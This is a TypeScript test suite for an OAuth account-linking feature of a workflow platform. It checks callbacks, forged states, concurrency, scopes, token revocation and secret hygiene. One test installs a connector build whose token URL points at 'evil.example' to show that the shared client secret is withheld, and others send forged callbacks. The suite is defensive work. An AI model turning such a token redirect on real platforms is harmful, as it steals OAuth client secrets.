import assert from 'node:assert/strict';
import { compileConnector, createHttp, parseRoutes, type Http } from '@tallyhook/sdk';
import { openAccount } from '@tallyhook/store/accounts';
import { installBuild, installConnector, releaseConnector } from '@tallyhook/store/connectors';
import { openSession } from '@tallyhook/store/people';
import { ensureOperators } from '@tallyhook/store/workspaces';
import { startOAuthService, vaultClient, type OAuthService } from './oauth-service.ts';
import { assertProblem, send, startService, type Founded, type Sender, type Service } from './start-service.ts';

const choosing = {
  then: [
    {
      request: { method: 'GET', path: '/sites' },
      choose: { list: 'response.body', label: '{{item.name}}', value: '{{item.id}}' },
      keep: { site: { value: '{{item.id}}' } },
    },
  ],
};

describe('linking an account by signing in at its service', () => {
  let vault: OAuthService;
  let http: Http;
  let service: Service;
  let ours: Founded;

  before(async () => {
    vault = await startOAuthService();
    http = createHttp({ routes: parseRoutes(vault.routes) });
    service = await startService({ http });
    const release = (files: Map<string, string>) =>
      releaseConnector(service.store, compileConnector(files).package!, { workspaceId: null, by: 'test' });
    await release(vault.connectorFiles());
    await release(vault.connectorFiles({ connector: { version: '1.1.0' }, signIn: choosing }));
    await release(
      vault.connectorFiles({
        connector: { version: '2.0.0' },
        signIn: { scopes: ['read'], optionalScopes: [{ scope: 'write', description: 'Add notes' }] },
        action: { scopes: ['write'] },
      }),
    );
    const account = { fields: [{ name: 'shop', label: 'Shop' }], label: 'Vault', externalId: '{{account.shop}}' };
    await release(vault.connectorFiles({ connector: { version: '3.0.0', account } }));
  });
  after(async () => {
    await service.stop();
    await http.close();
    await vault.close();
  });
  beforeEach(async () => {
    vault.person = { id: 'team-1', name: 'Fern' };
    ours = await found('1.0.0');
  });

  async function found(version: string, { hasClient = true } = {}): Promise<Founded> {
    const founded = await service.found();
    await installConnector(service.store, founded.workspaceId, { connector: 'vault', version }, 'test');
    if (hasClient) await send(service, 'PUT', '/api/connector-clients/vault', { as: founded.owner, json: vaultClient });
    return founded;
  }

  const begin = (json: object = {}, as: Sender = ours.owner) =>
    send(service, 'POST', '/api/account-sign-ins', { as, json: { connector: 'vault', ...json } });
  const come = (back: URL, as: Sender = ours.owner) => send(service, 'GET', `${back.pathname}${back.search}`, { as });
  const look = (id: string, as: Sender = ours.owner) => send(service, 'GET', `/api/account-sign-ins/${id}`, { as });

  /** Signs in to the end. */
  async function signIn(json: object = {}, as: Sender = ours.owner) {
    const begun = await begin(json, as);
    assert.equal(begun.status, 201, begun.text);
    const came = await come(await vault.agree(begun.body.address), as);
    assert.equal(came.status, 302, came.text);
    return (await look(begun.body.id, as)).body;
  }
  const accounts = async (as: Sender = ours.owner) => (await send(service, 'GET', '/api/accounts', { as })).body;

  it('sends the person there and back, and takes label and id from what the service answers', async () => {
    const begun = await begin({ shared: true });
    assert.deepEqual([begun.status, begun.body.status, begun.body.accountId], [201, 'waiting', null]);
    const address = new URL(begun.body.address);
    assert.equal(address.searchParams.get('redirect_uri'), 'http://tallyhook.test/oauth/callback');
    assert.equal(address.searchParams.get('code_challenge_method'), 'S256');
    const came = await come(await vault.agree(begun.body.address));
    assert.equal(came.status, 302, came.text);
    assert.equal(
      came.headers.get('location'),
      `/linked?${new URLSearchParams({ signIn: begun.body.id, workspace: ours.workspaceId })}`,
    );
    const { body } = await look(begun.body.id);
    assert.deepEqual([body.status, body.address, body.reason], ['done', null, null]);
    const [account, ...others] = await accounts();
    assert.deepEqual(others, []);
    assert.deepEqual(
      [account.id, account.label, account.externalId, account.isProven, account.shared, account.ownerPersonId],
      [body.accountId, 'Fern', 'team-1', true, true, ours.personId],
    );
    assert.ok(Math.abs(Date.parse(account.connectBefore) - Date.now() - 7_776_000_000) < 60_000);
  });

  it('finishes a sign-in once', async () => {
    const begun = await begin();
    const back = await vault.agree(begun.body.address);
    await come(back);
    const before = vault.answered.length;
    assert.equal((await come(back)).headers.get('location'), '/linked?problem=unknown');
    assert.equal(vault.answered.length, before);
    assert.equal((await accounts()).length, 1);
  });

  it('makes one account of several sign-ins that finish at the same time', async () => {
    const begun = await Promise.all(Array.from({ length: 5 }, () => begin({ shared: true })));
    const backs = [];
    for (const { body } of begun) backs.push(await vault.agree(body.address));
    await Promise.all(backs.map((back) => come(back)));
    const outcomes = await Promise.all(begun.map(async ({ body }) => (await look(body.id)).body));
    assert.deepEqual([...new Set(outcomes.map(({ status }) => status))], ['done']);
    assert.equal(new Set(outcomes.map(({ accountId }) => accountId)).size, 1);
    assert.equal((await accounts()).length, 1);
  });

  it('makes one account of several sign-ins with the same id that the person gives', async () => {
    ours = await found('3.0.0');
    const fields = { shop: 'acme' };
    const begun = await Promise.all(Array.from({ length: 3 }, () => begin({ fields, label: 'Ours' })));
    const backs = [];
    for (const { body } of begun) backs.push(await vault.agree(body.address));
    await Promise.all(backs.map((back) => come(back)));
    const outcomes = await Promise.all(begun.map(async ({ body }) => (await look(body.id)).body));
    assert.deepEqual([...new Set(outcomes.map(({ status }) => status))], ['done'], JSON.stringify(outcomes));
    await signIn({ fields, label: 'Ours again' });
    await signIn({ fields: { shop: 'other' } });
    assert.deepEqual(
      (await accounts()).map((one: Record<string, unknown>) => [one['externalId'], one['isProven'], one['label']]),
      [
        ['acme', false, 'Ours'],
        ['other', false, 'Vault'],
      ],
    );
  });

  it('shows the address that starts workflows only to people who may write', async () => {
    await signIn({ shared: true });
    const addressFor = async (role: 'member' | 'guest') =>
      (await accounts(await service.join(ours.workspaceId, role)))[0].hookAddress;
    assert.match(await addressFor('member'), /\/hooks\/vault\/./);
    assert.equal(await addressFor('guest'), null);
  });

  it('finishes it for the person and session that began it only', async () => {
    const { cookie } = await service.join(ours.workspaceId, 'admin');
    const { token } = await openSession(service.store, { personId: ours.personId, now: new Date() });
    const elsewhere = { cookie: ours.owner.cookie.replace(/=.*/, `=${token}`) };
    const begun = await begin();
    const back = await vault.agree(begun.body.address);
    assert.equal((await come(back, { cookie })).headers.get('location'), '/linked?problem=unknown');
    assert.equal((await come(back, elsewhere)).headers.get('location'), '/linked?problem=unknown');
    const signedOut = await send(service, 'GET', `${back.pathname}${back.search}`);
    assert.equal(signedOut.headers.get('location'), '/linked?problem=signed-out');
    assertProblem(await look(begun.body.id, { cookie }), 404, 'not_found');
    await come(back);
    assert.equal((await look(begun.body.id)).body.status, 'done');
  });

  it('finishes nothing that nobody began', async () => {
    const forged = new URL('http://tallyhook.test/oauth/callback?code=canary&state=made-up');
    assert.equal((await come(forged)).headers.get('location'), '/linked?problem=unknown');
    assert.equal(
      (await come(new URL('http://tallyhook.test/oauth/callback'))).headers.get('location'),
      '/linked?problem=unknown',
    );
  });

  it('says in plain words why the service or the person refused', async () => {
    const begun = await begin();
    const { searchParams } = new URL(begun.body.address);
    const denied = new URLSearchParams({ state: searchParams.get('state')!, error: 'access_denied' });
    await come(new URL(`http://tallyhook.test/oauth/callback?${denied}`));
    const { body } = await look(begun.body.id);
    assert.deepEqual([body.status, body.reason], ['failed', 'Vault refused: access_denied.']);
    const other = await begin();
    const state = new URL(other.body.address).searchParams.get('state')!;
    const wrong = new URLSearchParams({ state, code: 'canary-code-guessed' });
    await come(new URL(`http://tallyhook.test/oauth/callback?${wrong}`));
    const { reason } = (await look(other.body.id)).body;
    assert.match(reason, /^Vault answered 400: invalid_grant: not \[redacted\]\.$/);
    assert.deepEqual(await accounts(), []);
  });

  it('lets the person choose one of several without signing in again', async () => {
    ours = await found('1.1.0');
    vault.sites = ['north', 'south'];
    const signedIn = await signIn();
    assert.deepEqual(
      [signedIn.status, signedIn.options],
      [
        'choosing',
        [
          { label: 'north', value: 'site-north' },
          { label: 'south', value: 'site-south' },
        ],
      ],
    );
    assert.deepEqual(await accounts(), []);
    const choose = (value: string) =>
      send(service, 'POST', `/api/account-sign-ins/${signedIn.id}/choice`, { as: ours.owner, json: { value } });
    assertProblem(await choose('site-west'), 422, 'invalid_input');
    const before = vault.answered.filter((what) => what.includes('/token')).length;
    const chosen = await choose('site-south');
    assert.equal(chosen.body.status, 'done', chosen.text);
    assert.equal(vault.answered.filter((what) => what.includes('/token')).length, before);
    assertProblem(await choose('site-north'), 409, 'already_decided');
    const [{ id }] = await accounts();
    assert.equal((await openAccount(service.store, ours.workspaceId, id)).fields['site'], 'site-south');
  });

  it('asks for the optional scopes that the person chose, by default for all, and keeps the choice', async () => {
    ours = await found('2.0.0');
    const [connector] = (await send(service, 'GET', '/api/installed-connectors', { as: ours.owner })).body;
    assert.deepEqual(connector.signIn.optionalScopes, [{ scope: 'write', description: 'Add notes' }]);
    const scopeOf = async (json: object) => new URL((await begin(json)).body.address).searchParams.get('scope');
    assert.deepEqual([await scopeOf({}), await scopeOf({ scopes: [] })], ['read write', 'read']);
    const unknown = await begin({ scopes: ['wriet'] });
    assertProblem(unknown, 422, 'invalid_input');
    assert.match(unknown.body.detail, /"wriet" is not an optional scope of "Vault"\. It has write\./);
    const asked = async (id: string) =>
      (await openAccount(service.store, ours.workspaceId, id)).fields['optionalScopes'];
    const { accountId } = await signIn({ scopes: [] });
    assert.equal(await asked(accountId), '');
    await signIn({ scopes: ['write'], account: accountId });
    assert.equal(await asked(accountId), 'write');
  });

  it('connects the own account again when the same one signs in twice, and links others beside it', async () => {
    const first = await signIn();
    const again = await signIn();
    assert.equal(again.accountId, first.accountId);
    vault.person = { id: 'team-2', name: 'Moss' };
    const other = await signIn();
    assert.notEqual(other.accountId, first.accountId);
    assert.deepEqual(
      (await accounts()).map(({ label }: { label: string }) => label),
      ['Fern', 'Moss'],
    );
  });

  it('connects an account again with the same id, and never as somebody else', async () => {
    const { accountId } = await signIn();
    const [{ hookAddress }] = await accounts();
    vault.person = { id: 'team-2', name: 'Moss' };
    const wrong = await signIn({ account: accountId });
    assert.deepEqual([wrong.status, wrong.accountId], ['failed', null]);
    assert.match(wrong.reason, /You signed in as "Moss" \(team-2\), but this account is "Fern" \(team-1\)/);
    vault.person = { id: 'team-1', name: 'Fern' };
    assert.equal((await signIn({ account: accountId })).accountId, accountId);
    assert.equal((await accounts())[0].hookAddress, hookAddress);
    const { cookie } = await service.join(ours.workspaceId, 'member');
    assertProblem(await begin({ account: accountId }, { cookie }), 403, 'forbidden');
  });

  it('tests an account, says why it fails, and revokes its token when it is removed', async () => {
    const { accountId } = await signIn();
    const test = () => send(service, 'POST', `/api/accounts/${accountId}/test`, { as: ours.owner });
    assert.deepEqual((await test()).body, { label: 'Fern', externalId: 'team-1', isTested: true });
    const between = new Date().toISOString();
    assert.equal((await test()).status, 200);
    assert.ok((await accounts())[0].succeededAt >= between, 'a test is noted at once');
    vault.endTokens();
    assert.equal((await test()).status, 200, 'the token is refreshed');
    const { fields } = await openAccount(service.store, ours.workspaceId, accountId);
    const removed = await send(service, 'DELETE', `/api/accounts/${accountId}`, { as: ours.owner });
    assert.deepEqual(removed.body, { isRevoked: true, reason: null, leftSubscriptions: 0 });
    assert.deepEqual(vault.revoked.at(-1), {
      ...{ token: fields['refreshToken'], token_type_hint: 'refresh_token' },
      ...{ client_id: vaultClient.id, client_secret: vaultClient.secret },
    });
    assert.deepEqual(await accounts(), []);
  });

  it('says which workflows lost the account of somebody who left, until another person takes it over', async () => {
    const { cookie, personId } = await service.join(ours.workspaceId, 'member');
    const { accountId } = await signIn({}, { cookie });
    const steps = [{ id: 'note', kind: 'action', connector: 'vault', action: 'add-note', input: { note: 'x' } }];
    const json = { name: 'Notes', definition: { name: 'Notes', trigger: { kind: 'button' }, steps } };
    const { id } = (await send(service, 'POST', '/api/workflows', { as: { cookie }, json })).body;
    const settings = { as: { cookie }, json: { on: true, accounts: { vault: accountId } } };
    assert.equal((await send(service, 'PATCH', `/api/workflows/${id}/settings`, settings)).status, 200);
    const broken = async () =>
      (await send(service, 'GET', '/api/workflow-activity', { as: ours.owner })).body[0].brokenAccounts;
    assert.deepEqual(await broken(), []);
    assert.equal((await send(service, 'DELETE', `/api/members/${personId}`, { as: ours.owner })).status, 204);
    const reason = 'The person who linked this account left the workspace.';
    assert.deepEqual(await broken(), [{ id: accountId, label: 'Fern', reason }]);
    assert.equal((await signIn({ account: accountId })).accountId, accountId);
    assert.deepEqual(await broken(), []);
    const [account] = await accounts();
    assert.deepEqual(
      [account.stopped, account.shared, account.ownerPersonId, account.usedBy],
      [null, true, ours.personId, [{ workflowId: id, name: 'Notes', branch: 'main', on: true }]],
    );
  });

  it('lets managers change and take over the shared account of somebody who left, and of nobody else', async () => {
    const { cookie, personId } = await service.join(ours.workspaceId, 'member');
    const { accountId } = await signIn({ shared: true }, { cookie });
    const patch = (json: object, as: Sender = ours.owner) =>
      send(service, 'PATCH', `/api/accounts/${accountId}`, { as, json });
    const owner = async () =>
      (await accounts()).map((one: Record<string, unknown>) => [one.ownerPersonId, one.ownerHasLeft]);
    assertProblem(await patch({ label: 'Ours' }), 403, 'forbidden');
    assert.equal((await signIn({ account: accountId })).accountId, accountId);
    assert.deepEqual(await owner(), [[personId, false]]);

    assert.equal((await send(service, 'DELETE', `/api/members/${personId}`, { as: ours.owner })).status, 204);
    assert.deepEqual(await owner(), [[personId, true]]);
    const member = await service.join(ours.workspaceId, 'member');
    assertProblem(await patch({ label: 'Theirs' }, member), 403, 'forbidden');
    const changed = await patch({ label: 'Ours' });
    assert.deepEqual([changed.status, changed.body.label], [200, 'Ours'], changed.text);
    const kept = await patch({ shared: false });
    assertProblem(kept, 400, 'invalid_request');
    assert.match(kept.body.detail, /Connect it again first/);
    assert.equal((await signIn({ account: accountId })).accountId, accountId);
    assert.deepEqual(await owner(), [[ours.personId, false]]);
    assert.equal((await patch({ shared: false })).status, 200);
    const audit = await service.store.system.collection('audit').find({ target: accountId }).sort({ at: 1 }).toArray();
    assert.deepEqual(
      audit.slice(-3).map(({ action, by }) => [action, by]),
      [
        ['account.changed', ours.personId],
        ['account.connected_again', ours.personId],
        ['account.changed', ours.personId],
      ],
    );
  });

  it('shows no secret in answers, logs or the database', async () => {
    await signIn();
    vault.sites = ['north', 'south'];
    const clients = await send(service, 'GET', '/api/connector-clients', { as: ours.owner });
    const rows = await Promise.all(
      ['linked_accounts', 'account_sign_ins', 'connector_clients', 'audit'].map((name) =>
        service.store.system.collection(name).find().toArray(),
      ),
    );
    const shown = JSON.stringify([service.log, await accounts(), clients.body, rows]);
    assert.ok(!shown.includes('canary'), shown.slice(shown.indexOf('canary') - 200, shown.indexOf('canary') + 50));
    assert.ok(!/"state=|code_verifier/.test(shown));
  });

  describe('uses the OAuth client', () => {
    it('of the workspace, and says what to do where there is none', async () => {
      const poor = await found('1.0.0', { hasClient: false });
      const refused = await begin({}, poor.owner);
      assertProblem(refused, 422, 'invalid_account');
      assert.match(refused.body.detail, /no OAuth client for "Vault" yet/);
    });

    it('of the installation, which operators set in !core, for connectors of the marketplace only', async () => {
      const operator = await service.found();
      const { body: session } = await send(service, 'GET', '/api/session', { as: operator.owner });
      await ensureOperators(service.store, [session.person.email], new Date());
      const poor = await found('1.0.0', { hasClient: false });
      const path = '/api/connector-clients/vault';
      const set = await send(service, 'PUT', `${path}?workspace=!core`, { as: operator.owner, json: vaultClient });
      assert.deepEqual([set.status, set.body.isShared, set.body.clientId], [200, true, 'vault-client'], set.text);
      try {
        assert.equal((await signIn({}, poor.owner)).status, 'done');
        const { body } = await send(service, 'GET', '/api/connector-clients', { as: poor.owner });
        assert.deepEqual(
          body.clients.map(({ isShared, hasSecret }: Record<string, unknown>) => [isShared, hasSecret]),
          [[true, true]],
        );
        // A build of its own could send the installation's secret to a host of its choice.
        const evil = vault.connectorFiles({
          connector: { version: '1.0.1-dev.1' },
          signIn: { token: { url: 'https://evil.example/token' } },
        });
        await installBuild(service.store, poor.workspaceId, compileConnector(evil).package!, poor.personId);
        const refused = await begin({}, poor.owner);
        assertProblem(refused, 422, 'invalid_account');
        assert.match(refused.body.detail, /This workspace releases "Vault" itself/);
        // What it cannot sign in with is not offered either.
        const offered = await send(service, 'GET', '/api/connector-clients', { as: poor.owner });
        assert.deepEqual(offered.body.clients, []);
        const installed = await send(service, 'GET', '/api/installed-connectors', { as: poor.owner });
        assert.equal(installed.body.find(({ id }: { id: string }) => id === 'vault').isOwn, true);
      } finally {
        await send(service, 'DELETE', `${path}?workspace=!core`, { as: operator.owner });
      }
    });
  });
});
